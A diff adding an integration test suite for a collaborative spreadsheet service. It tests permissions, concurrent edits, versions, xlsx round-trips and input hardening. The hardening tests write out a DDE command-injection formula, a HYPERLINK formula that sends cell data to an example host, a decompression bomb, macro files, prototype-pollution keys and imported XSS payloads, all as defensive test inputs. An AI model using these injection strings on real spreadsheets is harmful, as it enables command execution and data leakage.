@@ -1,0 +1,493 @@
+import excel from 'exceljs';
+import { sql } from 'kysely';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { emptyLayout, type SheetCell, type SheetLayout, type SheetText } from '#core/spreadsheet/book.ts';
+import { payloads } from '#core/testing/html-payloads.ts';
+import { buildUser, type BuiltUser } from '#server/testing/builders.ts';
+import { startTestServer, type TestServer } from '#server/testing/server.ts';
+import { officeOf } from '#server/testing/zip.ts';
+
+type Row = { id: string; name: string; level: number; versionNo: number };
+type One = Row & { revision: number; sheets: SheetText[] };
+type News = {
+  revision: number;
+  sheetIds: string[];
+  sheets: SheetText[];
+  layouts: { id: string; layout: SheetLayout }[];
+  cells: { sheetId: string; row: number; column: number; cell: SheetCell | null }[];
+  conflicts: { row: number; column: number; theirs: SheetCell | null; by: string }[];
+  overwritten: { sheetId: string; by: string }[];
+};
+type Cells = readonly (readonly [row: number, column: number, cell: SheetCell | null, isResult?: boolean])[];
+
+const acts = ['view', 'add', 'edit', 'share', 'history', 'import', 'export', 'delete', 'restore'];
+const all = acts.map((act) => `luckysheet:list:${act}`);
+
+let server: TestServer;
+let users: Record<'owner' | 'colleague' | 'other', BuiltUser>;
+const tokens: Record<string, string> = {};
+
+beforeAll(async () => {
+  server = await startTestServer();
+  users = {
+    owner: await buildUser(server.db, { username: 'owner', realname: '王芳', permissions: all }),
+    colleague: await buildUser(server.db, { username: 'colleague', realname: '李强', permissions: all }),
+    other: await buildUser(server.db, { username: 'other', realname: '赵敏', permissions: ['luckysheet:list:view'] }),
+  };
+  for (const [name, { username, password }] of Object.entries(users))
+    tokens[name] = await server.signIn(username, password);
+});
+afterAll(() => server.close());
+
+const call = <T = unknown>(as: string, method: string, path: string, body?: unknown) =>
+  server.call<T>(method, `/luckysheet/${path}`, { token: tokens[as] ?? as, body });
+const make = async (as: string, name: string) => (await call<string>(as, 'POST', 'sheet/add', { name })).body.result;
+const read = (as: string, id: string) => call<One>(as, 'GET', `sheet/queryById?id=${id}`);
+const change = (as: string, id: string, revision: number, part: object) =>
+  call<News>(as, 'PUT', 'sheet/edit', { id, revision, moves: [], sheets: [], removed: [], cells: [], ...part });
+const put = (as: string, id: string, revision: number, cells: Cells, sheetId = 'sheet1') =>
+  change(as, id, revision, {
+    cells: cells.map(([row, column, cell, isResult]) => ({
+      sheetId,
+      row,
+      column,
+      cell,
+      ...(isResult === true ? { isResult } : {}),
+    })),
+  });
+const share = (as: string, itemId: string, granteeId: string, level: number) =>
+  call(as, 'PUT', 'grant/save', { itemId, grants: [{ mode: 'user', granteeId, level }] });
+const cellsOf = async (as: string, id: string) =>
+  (await read(as, id)).body.result.sheets.flatMap(({ cells }) =>
+    cells.map(({ row, column, cell }) => [row, column, cell]),
+  );
+const shared = async (name: string, level: number): Promise<string> => {
+  const id = await make('owner', name);
+  await share('owner', id, users.colleague.id, level);
+  return id;
+};
+const upload = async (as: string, data: Buffer, name: string) => {
+  const form = new FormData();
+  form.append('file', new Blob([new Uint8Array(data)]), name);
+  const answer = await fetch(`${server.url}/platform/luckysheet/sheet/importXls`, {
+    method: 'POST',
+    headers: { 'x-access-token': tokens[as] ?? as },
+    body: form,
+  });
+  return {
+    status: answer.status,
+    body: (await answer.json()) as { message: string; result: { id: string; left: string[] } },
+  };
+};
+const download = async (as: string, id: string): Promise<excel.Workbook> => {
+  const answer = await fetch(`${server.url}/platform/luckysheet/sheet/exportXls?id=${id}`, {
+    headers: { 'x-access-token': tokens[as] ?? as },
+  });
+  expect(answer.status).toBe(200);
+  const book = new excel.Workbook();
+  await book.xlsx.load(await answer.arrayBuffer());
+  return book;
+};
+
+describe('[B2.10] spreadsheets', () => {
+  it('are made, found by name, renamed, copied, deleted, taken back and deleted for good', async () => {
+    const id = await make('owner', '产量统计');
+    expect((await read('owner', id)).body.result).toMatchObject({
+      name: '产量统计',
+      revision: 0,
+      level: 4,
+      versionNo: 1,
+    });
+    await put('owner', id, 0, [[0, 0, { value: '一月' }]]);
+    const copy = (await call<string>('owner', 'POST', 'sheet/copy', { id, name: '产量统计 2' })).body.result;
+    expect(await cellsOf('owner', copy)).toEqual([[0, 0, { value: '一月' }]]);
+    await call('owner', 'PUT', 'sheet/rename', { id, name: '年产量' });
+    const names = async (query: string) =>
+      (await call<{ records: Row[] }>('owner', 'GET', `sheet/list?${query}`)).body.result.records.map(
+        ({ name }) => name,
+      );
+    expect(await names(`word=${encodeURIComponent('产量')}&column=name&order=asc`)).toEqual(['产量统计 2', '年产量']);
+    expect(await names(`word=${encodeURIComponent('统计')}`)).toEqual(['产量统计 2']);
+    await call('owner', 'DELETE', `sheet/deleteBatch?ids=${copy}`);
+    expect([await names('space=trash'), await names('space=own')]).toEqual([['产量统计 2'], ['年产量']]);
+    await call('owner', 'PUT', 'sheet/restore', { ids: [copy] });
+    expect(await names('space=trash')).toEqual([]);
+    await call('owner', 'DELETE', `sheet/deleteBatch?ids=${copy}`);
+    expect((await call('owner', 'DELETE', `sheet/purge?ids=${copy}`)).status).toBe(200);
+    expect((await read('owner', copy)).status).toBe(404);
+    const { rows } = await sql`select 1 from sheet_page where item_id = ${copy}`.execute(server.db);
+    expect(rows).toEqual([]);
+  });
+
+  it('are as if they never were to everybody they are not granted to, whatever is asked', async () => {
+    const id = await make('owner', '工资');
+    await put('owner', id, 0, [[0, 0, { value: 1 }]]);
+    const asked = (about: string): Promise<{ status: number; body: { message: string } }>[] => [
+      read('colleague', about),
+      put('colleague', about, 1, [[0, 0, { value: 2 }]]),
+      call('colleague', 'GET', `sheet/news?id=${about}&since=0`),
+      call('colleague', 'GET', `sheet/exportXls?id=${about}`),
+      call('colleague', 'POST', 'sheet/copy', { id: about, name: '我的' }),
+      call('colleague', 'PUT', 'sheet/rename', { id: about, name: '我的' }),
+      call('colleague', 'DELETE', `sheet/deleteBatch?ids=${about}`),
+      call('colleague', 'GET', `version/list?id=${about}`),
+      call('colleague', 'GET', `version/queryByNo?id=${about}&versionNo=1`),
+      call('colleague', 'PUT', 'version/restore', { id: about, versionNo: 1, revision: 1 }),
+      call('colleague', 'POST', 'version/add', { id: about, note: '' }),
+      call('colleague', 'GET', `grant/list?itemId=${about}`),
+      call('colleague', 'PUT', 'grant/save', { itemId: about, grants: [] }),
+    ];
+    const [of, none] = [await Promise.all(asked(id)), await Promise.all(asked('0'.repeat(32)))];
+    expect(of.map(({ status, body }) => [status, body.message])).toEqual(
+      none.map(({ status, body }) => [status, body.message]),
+    );
+    expect(new Set(of.map(({ status }) => status))).toEqual(new Set([404]));
+    expect(await cellsOf('owner', id)).toEqual([[0, 0, { value: 1 }]]);
+  });
+
+  it('of another company are not there, for who manages all of his own company neither', async () => {
+    const id = await make('owner', '别家的');
+    await sql`insert into sys_tenant (id, name) values ('7', '别家')`.execute(server.db).catch(() => undefined);
+    await sql`update doc_item set tenant_id = '7' where id = ${id}`.execute(server.db);
+    const admin = await server.signInAsAdmin();
+    expect((await read(admin, id)).status).toBe(404);
+    expect((await read('owner', id)).status).toBe(404);
+  });
+
+  it('do not open by the calls of documents, nor documents by theirs', async () => {
+    const id = await make('owner', '只是表格');
+    const admin = await server.signInAsAdmin();
+    expect((await server.call('GET', `/doc/item/queryById?id=${id}`, { token: admin })).status).toBe(404);
+    const text = await server.call<string>('POST', '/doc/item/add', {
+      token: admin,
+      body: { parentId: null, name: '文档', kind: 'rich', content: '<p>x</p>' },
+    });
+    expect((await read(admin, text.body.result)).status).toBe(404);
+    expect((await read(admin, id)).status).toBe(200);
+  });
+
+  it('are changed only from the level of editing on, and taken away from that of downloading', async () => {
+    const id = await shared('只读', 1);
+    expect((await read('colleague', id)).body.result.level).toBe(1);
+    expect((await put('colleague', id, 0, [[0, 0, { value: 1 }]])).status).toBe(403);
+    expect((await call('colleague', 'GET', `sheet/exportXls?id=${id}`)).status).toBe(403);
+    expect((await call('colleague', 'POST', 'sheet/copy', { id, name: '副本' })).status).toBe(403);
+    await share('owner', id, users.colleague.id, 3);
+    expect((await put('colleague', id, 0, [[0, 0, { value: 1 }]])).status).toBe(200);
+    expect((await call('colleague', 'DELETE', `sheet/deleteBatch?ids=${id}`)).status).toBe(403);
+    await share('owner', id, users.other.id, 4);
+    expect((await put('other', id, 1, [[0, 0, { value: 2 }]])).status).toBe(403);
+    expect((await put('colleague', id, 1, [[0, 0, { value: 2 }]])).status).toBe(404);
+  });
+});
+
+describe('[B2.10] several people in one spreadsheet', () => {
+  it('see what the others write, and cells of others are not touched', async () => {
+    const id = await shared('共同', 3);
+    expect((await put('owner', id, 0, [[0, 0, { value: '王' }]])).body.result).toMatchObject({
+      revision: 1,
+      cells: [],
+    });
+    const { result } = (await put('colleague', id, 0, [[1, 0, { value: '李' }]])).body;
+    expect(result).toMatchObject({
+      revision: 2,
+      conflicts: [],
+      cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: '王' } }],
+    });
+    const heard = (await call<News>('owner', 'GET', `sheet/news?id=${id}&since=1`)).body.result;
+    expect([heard.revision, heard.cells]).toEqual([
+      2,
+      [{ sheetId: 'sheet1', row: 1, column: 0, cell: { value: '李' } }],
+    ]);
+    expect((await call<News>('owner', 'GET', `sheet/news?id=${id}&since=2`)).body.result.cells).toEqual([]);
+    await put('colleague', id, 2, [[0, 0, null]]);
+    const gone = (await call<News>('owner', 'GET', `sheet/news?id=${id}&since=2`)).body.result;
+    expect(gone.cells).toEqual([{ sheetId: 'sheet1', row: 0, column: 0, cell: null }]);
+  });
+
+  it('are told of a cell both wrote; the first stays until the second decides', async () => {
+    const id = await shared('冲突', 3);
+    await put('owner', id, 0, [[0, 0, { value: '三十' }]]);
+    const late = await put('colleague', id, 0, [
+      [0, 0, { value: '二十' }],
+      [0, 1, { value: '旁边' }],
+    ]);
+    expect(late.status).toBe(200);
+    expect(late.body.result.conflicts).toEqual([
+      { sheetId: 'sheet1', row: 0, column: 0, theirs: { value: '三十' }, by: '王芳' },
+    ]);
+    expect(await cellsOf('owner', id)).toEqual([
+      [0, 0, { value: '三十' }],
+      [0, 1, { value: '旁边' }],
+    ]);
+    await put('colleague', id, late.body.result.revision, [[0, 0, { value: '二十' }]]);
+    expect((await cellsOf('owner', id))[0]).toEqual([0, 0, { value: '二十' }]);
+  });
+
+  it('have no conflict when both wrote the same, or only computed anew', async () => {
+    const id = await shared('相同', 3);
+    await put('owner', id, 0, [
+      [0, 0, { value: '同' }],
+      [1, 0, { value: 5, formula: '=A5', text: '5' }],
+      [2, 0, { value: 9 }],
+    ]);
+    const late = await put('colleague', id, 0, [
+      [0, 0, { value: '同' }],
+      [1, 0, { value: 6, formula: '=A5', text: '6' }],
+      [2, 0, { value: 1, formula: '=A9' }, true],
+    ]);
+    expect(late.body.result.conflicts).toEqual([]);
+    expect((await cellsOf('owner', id)).map(([, , cell]) => (cell as SheetCell).value)).toEqual(['同', 6, 9]);
+  });
+
+  it('never lose one of two changes that arrive at the same moment', async () => {
+    const id = await shared('同时', 3);
+    const answers = await Promise.all(
+      Array.from({ length: 12 }, (_, at) =>
+        put(at % 2 === 0 ? 'owner' : 'colleague', id, 0, [
+          [at, 0, { value: at }],
+          [0, 5, { value: `最后 ${at}` }],
+        ]),
+      ),
+    );
+    expect(answers.map(({ status }) => status)).toEqual(Array(12).fill(200));
+    // Exactly one wrote the cell all wanted; the others heard of him.
+    expect(answers.filter(({ body }) => body.result.conflicts.length === 0)).toHaveLength(1);
+    const cells = await cellsOf('owner', id);
+    expect(cells.filter(([, column]) => column === 0)).toHaveLength(12);
+    expect((await read('owner', id)).body.result.revision).toBe(12);
+  });
+
+  it('cannot write to addresses that mean other cells by now', async () => {
+    const id = await shared('结构', 3);
+    await put('owner', id, 0, [
+      [0, 0, { value: 'a' }],
+      [1, 0, { value: 'b' }],
+    ]);
+    const moves = [{ sheetId: 'sheet1', act: 'insert', axis: 'row', at: 1, count: 2 }];
+    expect((await change('owner', id, 1, { moves })).status).toBe(200);
+    expect(await cellsOf('owner', id)).toEqual([
+      [0, 0, { value: 'a' }],
+      [3, 0, { value: 'b' }],
+    ]);
+    const late = await put('colleague', id, 1, [[1, 0, { value: 'B' }]]);
+    expect([late.status, late.body.message]).toEqual([409, expect.stringContaining('王芳')]);
+    const heard = (await call<News>('colleague', 'GET', `sheet/news?id=${id}&since=1`)).body.result;
+    expect(heard.sheets.map(({ layout, cells }) => [layout.rows, cells.length])).toEqual([[102, 2]]);
+    // And nobody moves what another has just written.
+    await put('owner', id, heard.revision, [[5, 0, { value: 'c' }]]);
+    const remove = [{ sheetId: 'sheet1', act: 'delete', axis: 'row', at: 0, count: 6 }];
+    expect((await change('colleague', id, heard.revision, { moves: remove })).status).toBe(409);
+    expect((await change('colleague', id, heard.revision + 1, { moves: remove })).status).toBe(200);
+    expect(await cellsOf('owner', id)).toEqual([]);
+  });
+
+  it('add and remove sheets; who changed a layout over another hears whose', async () => {
+    const id = await shared('工作表', 3);
+    const second = { id: 'second', layout: emptyLayout('二月', 1) };
+    expect((await change('owner', id, 0, { sheets: [second] })).body.result.sheetIds).toEqual(['sheet1', 'second']);
+    const heard = (await call<News>('colleague', 'GET', `sheet/news?id=${id}&since=0`)).body.result;
+    expect(heard.sheets.map(({ id: key }) => key)).toEqual(['second']);
+    const named = (name: string) => [{ id: 'second', layout: { ...second.layout, name } }];
+    await change('owner', id, 1, { sheets: named('三月') });
+    const late = (await change('colleague', id, 1, { sheets: named('四月') })).body.result;
+    expect(late.overwritten).toEqual([{ sheetId: 'second', by: '王芳' }]);
+    expect((await change('owner', id, 3, { removed: ['sheet1'] })).status).toBe(200);
+    expect((await put('colleague', id, 3, [[0, 0, { value: 1 }]])).status).toBe(409);
+    expect((await change('owner', id, 4, { removed: ['second'] })).body.message).toContain('至少');
+    expect((await change('owner', id, 4, { sheets: named('a/b') })).status).toBe(422);
+  });
+});
+
+describe('[B2.10] versions of a spreadsheet', () => {
+  const versions = async (id: string) =>
+    (await call<{ versionNo: number; note: string; createBy: string }[]>('owner', 'GET', `version/list?id=${id}`)).body
+      .result;
+
+  it('keep the work before the next change after ten minutes, under the name of who did it', async () => {
+    const id = await shared('历史', 3);
+    await put('owner', id, 0, [[0, 0, { value: '第一稿' }]]);
+    await put('owner', id, 1, [[0, 1, { value: '继续' }]]);
+    expect(await versions(id)).toHaveLength(1);
+    await sql`update doc_version set create_time = now() - interval '11 minutes' where item_id = ${id}`.execute(
+      server.db,
+    );
+    await put('colleague', id, 2, [[0, 0, { value: '毁了' }]]);
+    expect((await versions(id)).map(({ versionNo, createBy }) => [versionNo, createBy])).toEqual([
+      [2, '王芳'],
+      [1, '王芳'],
+    ]);
+    const old = await call<{ sheets: SheetText[] }>('owner', 'GET', `version/queryByNo?id=${id}&versionNo=2`);
+    expect(old.body.result.sheets[0]?.cells.map(({ cell }) => cell?.value)).toEqual(['第一稿', '继续']);
+  });
+
+  it('come back as a new version, and what stood there is kept', async () => {
+    const id = await make('owner', '恢复');
+    await put('owner', id, 0, [[0, 0, { value: '好' }]]);
+    expect((await call<number>('owner', 'POST', 'version/add', { id, note: '月底' })).body.result).toBe(2);
+    await put('owner', id, 1, [[0, 0, { value: '坏' }]]);
+    expect((await call('owner', 'PUT', 'version/restore', { id, versionNo: 2, revision: 1 })).status).toBe(409);
+    const back = await call<number>('owner', 'PUT', 'version/restore', { id, versionNo: 2, revision: 2 });
+    expect(back.body.result).toBe(4);
+    expect(await cellsOf('owner', id)).toEqual([[0, 0, { value: '好' }]]);
+    expect((await versions(id)).map(({ versionNo, note }) => [versionNo, note])).toEqual([
+      [4, '恢复自版本 2'],
+      [3, ''],
+      [2, '月底'],
+      [1, ''],
+    ]);
+    // Others get the sheets whole.
+    expect((await call<News>('owner', 'GET', `sheet/news?id=${id}&since=2`)).body.result.sheets).toHaveLength(1);
+    expect((await call('owner', 'PUT', 'version/restore', { id, versionNo: 99, revision: 3 })).status).toBe(404);
+  });
+});
+
+describe('[B2.10] [FIL-03] workbooks', () => {
+  it('go out and come in again with values, formulas, formats, looks and joined cells', async () => {
+    const id = await make('owner', '往返');
+    const cells: Cells = [
+      [0, 0, { value: '品名', style: { bold: true, fill: '#ffee00', align: 'center' } }],
+      [0, 1, { value: 12.5, text: '12.50', format: '0.00' }],
+      [0, 2, { value: 25, formula: '=B1*2', text: '25' }],
+      [1, 0, { value: true }],
+      [1, 1, { value: '=1+1', isText: true }],
+      [1, 2, { value: '007', isText: true }],
+    ];
+    await put('owner', id, 0, cells);
+    const layout: SheetLayout = {
+      ...emptyLayout('数据', 0),
+      merges: [{ row: 4, column: 0, rows: 2, columns: 3 }],
+      columnWidths: [{ at: 0, size: 180 }],
+      frozenRows: 1,
+    };
+    expect((await change('owner', id, 1, { sheets: [{ id: 'sheet1', layout }] })).status).toBe(200);
+    const book = await download('owner', id);
+    const sheet = book.getWorksheet('数据');
+    expect(sheet?.getCell('C1').value).toEqual({ formula: 'B1*2', result: 25 });
+    expect([sheet?.getCell('B2').type, sheet?.getCell('B2').value]).toEqual([excel.ValueType.String, '=1+1']);
+    const back = await upload('owner', Buffer.from(await book.xlsx.writeBuffer()), '往返.xlsx');
+    expect([back.status, back.body.result.left]).toEqual([200, []]);
+    const { sheets } = (await read('owner', back.body.result.id)).body.result;
+    expect(sheets[0]?.layout).toMatchObject({
+      name: '数据',
+      merges: layout.merges,
+      columnWidths: [{ at: 0, size: 180 }],
+      frozenRows: 1,
+    });
+    const found = new Map(sheets[0]?.cells.map(({ row, column, cell }) => [`${row} ${column}`, cell]));
+    for (const [row, column, cell] of cells) {
+      const { text: _text, style: _style, ...rest } = cell ?? { value: null };
+      expect(found.get(`${row} ${column}`), `${row} ${column}`).toMatchObject(rest);
+    }
+    expect(found.get('0 0')?.style).toMatchObject({ bold: true, fill: '#ffee00', align: 'center' });
+  });
+
+  it('never hold a formula that reaches other programs, files or addresses', async () => {
+    const id = await make('owner', '外部');
+    await put('owner', id, 0, [
+      [0, 0, { value: 7, formula: "=cmd|'/C calc'!A0" }],
+      [0, 1, { value: 8, formula: '=HYPERLINK("https://example.com?"&A1)' }],
+      [0, 2, { value: "=cmd|'/C calc'!A0" }],
+    ]);
+    const sheet = (await download('owner', id)).getWorksheet('Sheet1');
+    expect([sheet?.getCell('A1').value, sheet?.getCell('B1').value]).toEqual([7, 8]);
+    expect(sheet?.getCell('C1').type).toBe(excel.ValueType.String);
+    const book = new excel.Workbook();
+    book.addWorksheet('外').getCell('A1').value = { formula: '[1]Sheet1!A1', result: 3 };
+    const back = await upload('owner', Buffer.from(await book.xlsx.writeBuffer()), '外.xlsx');
+    expect(back.body.result.left).toEqual([expect.stringContaining('公式')]);
+    expect(await cellsOf('owner', back.body.result.id)).toEqual([[0, 0, { value: 3 }]]);
+  });
+
+  it('are refused when they are too large, no workbook, have macros or are made to exhaust', async () => {
+    const wide = new excel.Workbook();
+    wide.addWorksheet('宽').getCell(1, 300).value = 1;
+    const long = new excel.Workbook();
+    long.addWorksheet('长').getCell(10_001, 1).value = 1;
+    const bytes = async (book: excel.Workbook) => Buffer.from(await book.xlsx.writeBuffer());
+    const cases: [Buffer, string, string][] = [
+      [await bytes(wide), '宽.xlsx', '256 列'],
+      [await bytes(long), '长.xlsx', '10000 行'],
+      [Buffer.from('a,b\n1,2'), 'a.csv', '.xlsx'],
+      [Buffer.from('not a workbook'), 'a.xlsx', '.xlsx'],
+      [await bytes(wide), 'a.xlsm', '宏'],
+      [officeOf({ name: 'xl/vbaProject.bin', data: Buffer.from('x') }), 'm.xlsx', '宏'],
+      [officeOf({ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(50 * 1024 * 1024) }), 'bomb.xlsx', '解压'],
+    ];
+    for (const [file, name, words] of cases) {
+      const { status, body } = await upload('owner', file, name);
+      expect([status, body.message], name).toEqual([422, expect.stringContaining(words)]);
+    }
+    expect((await upload('other', await bytes(long), 'a.xlsx')).status).toBe(403);
+  });
+
+  it('that are larger than the limit of cells are refused with the number', async () => {
+    const book = new excel.Workbook();
+    const sheet = book.addWorksheet('多');
+    for (let row = 0; row < 5_001; row += 1) sheet.addRow([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
+    const { status, body } = await upload('owner', Buffer.from(await book.xlsx.writeBuffer()), '多.xlsx');
+    expect([status, body.message]).toEqual([422, expect.stringContaining('50000')]);
+  });
+});
+
+describe('[B2.10] [XSS-01] what is written into a spreadsheet', () => {
+  it('stays text: every trick comes back as it was typed, in cells, names of sheets and workbooks', async () => {
+    const id = await make('owner', '脚本');
+    await put(
+      'owner',
+      id,
+      0,
+      payloads.map((value, row) => [row % 100, Math.floor(row / 100), { value }] as const),
+    );
+    const values = new Set((await cellsOf('owner', id)).map(([, , cell]) => (cell as SheetCell).value));
+    // oxlint-disable-next-line no-control-regex -- no workbook can hold them, so they go
+    const kept = (payload: string): string => payload.replaceAll(/[\0-\u0008\u000b\u000c\u000e-\u001f]/g, '');
+    for (const payload of payloads) expect(values.has(kept(payload)), payload).toBe(true);
+    const sheet = (await download('owner', id)).getWorksheet('Sheet1');
+    const written = new Set<unknown>();
+    sheet?.eachRow((row) => row.eachCell((cell) => void written.add(cell.value)));
+    for (const value of written) expect(typeof value).toBe('string');
+  });
+
+  it('is refused when it is none of what a cell or sheet has', async () => {
+    const id = await make('owner', '形状');
+    const bad: object[] = [
+      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 1, html: '<b>' } }] },
+      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: { a: 1 } } }] },
+      { cells: [{ sheetId: '__proto__', row: 0, column: 0, cell: { value: 1 } }], __proto__x: 1 },
+      { cells: [{ sheetId: 'sheet1', row: -1, column: 0, cell: null }] },
+      { cells: [{ sheetId: 'sheet1', row: 0, column: 300, cell: null }] },
+      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 1, style: { color: 'red;x' } } }] },
+      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 1, formula: 'A1' } }] },
+      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 'x'.repeat(40_000) } }] },
+      { cells: Array.from({ length: 5_001 }, (_, row) => ({ sheetId: 'sheet1', row, column: 0, cell: null })) },
+      { sheets: [{ id: 'a b', layout: emptyLayout('x', 1) }] },
+      { sheets: [{ id: 'x', layout: { ...emptyLayout('x', 1), constructor: {} } }] },
+      { sheets: [{ id: 'x', layout: { ...emptyLayout('x', 1), rows: 20_000 } }] },
+    ];
+    for (const part of bad) {
+      const { status } = await change('owner', id, 0, part);
+      expect([400, 422], JSON.stringify(part).slice(0, 120)).toContain(status);
+    }
+    const proto = await change('owner', id, 0, {
+      cells: [{ sheetId: '__proto__', row: 0, column: 0, cell: { value: 1 } }],
+    });
+    expect(proto.status).toBe(409);
+    const beyond = await put('owner', id, 0, [[150, 0, { value: 1 }]]);
+    expect(beyond.status).toBe(422);
+    const controls = await put('owner', id, 0, [[0, 0, { value: 'a\u0000b\ud800c\u0007' }]]);
+    expect(controls.status).toBe(200);
+    expect(await cellsOf('owner', id)).toEqual([[0, 0, { value: 'ab\ufffdc' }]]);
+  });
+
+  it('has a limit for the whole spreadsheet', async () => {
+    const id = await make('owner', '满');
+    await sql`
+      insert into sheet_cell (tenant_id, page_id, row_no, column_no, cell, revision, changed_by)
+      select p.tenant_id, p.id, g / 20, g % 20, '{"value":1}', 0, p.changed_by
+      from sheet_page p, generate_series(0, 49999) g where p.item_id = ${id}`.execute(server.db);
+    const { status, body } = await put('owner', id, 0, [[99, 25, { value: 1 }]]);
+    expect([status, body.message]).toEqual([422, expect.stringContaining('50000')]);
+    expect((await put('owner', id, 0, [[0, 0, null]])).status).toBe(200);
+  });
+});
